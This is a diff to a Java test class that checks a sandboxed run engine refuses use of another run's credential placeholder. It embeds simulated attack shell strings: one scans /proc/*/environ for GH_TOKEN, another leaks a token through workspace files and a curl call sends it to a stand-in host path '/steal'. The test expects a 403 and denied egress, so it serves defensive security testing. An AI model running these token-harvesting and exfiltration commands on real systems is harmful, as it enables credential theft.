@@ -190,15 +190,17 @@ class SecretBindingTest {
     }
 
     @Test
-    void anotherRunsPlaceholder_readFromProcEnviron_refusedWithReason_noSecretUsed() throws Exception {
+    void anotherRunsPlaceholder_leakedToIt_refusedWithReason_noSecretUsed() throws Exception {
         String ws = open(List.of("gh"));
-        // run A (background) holds a placeholder in its environment; it waits until run B has tried
+        // run A (background) holds a placeholder; hostile code in it leaks the placeholder through the workspace's
+        // files, since confined runs cannot read each other's /proc/PID/environ any more; it waits until B has tried
         ProcessStatus a = engine.startBackground(Tenant.LOCAL, new RunRequest(ws,
-                "while [ ! -e /workspace/b-done ]; do sleep 0.05; done", null, Map.of(), null, null, null));
-        // run B has no credentials of its own, reads A's placeholder from /proc and sends it to the bound host
-        RunResult b = sh(ws, "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f 2>/dev/null | sed -n 's/^GH_TOKEN=//p'; done"
-                + " | head -1 > /workspace/stolen; test -s /workspace/stolen || echo nothing-to-steal;"
-                + " curl -sS --max-time 20 -o /dev/stderr -w '%{http_code}' -H \"Authorization: Bearer $(cat /workspace/stolen)\" "
+                "printf %s \"$GH_TOKEN\" > /workspace/leaked; while [ ! -e /workspace/b-done ]; do sleep 0.05; done",
+                null, Map.of(), null, null, null));
+        // run B has no credentials of its own: /proc shows it none of A's, so it takes the leaked one and sends it
+        RunResult b = sh(ws, "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f 2>/dev/null | grep -q '^GH_TOKEN=' && echo seen-in-proc; done;"
+                + " while [ ! -s /workspace/leaked ]; do sleep 0.05; done;"
+                + " curl -sS --max-time 20 -o /dev/stderr -w '%{http_code}' -H \"Authorization: Bearer $(cat /workspace/leaked)\" "
                 + url("api.cred.test", "/steal") + "; touch /workspace/b-done", List.of());
         assertEquals("403", b.stdout(), b.toString());
         assertEquals(1, b.egressDenied().size(), b.toString());
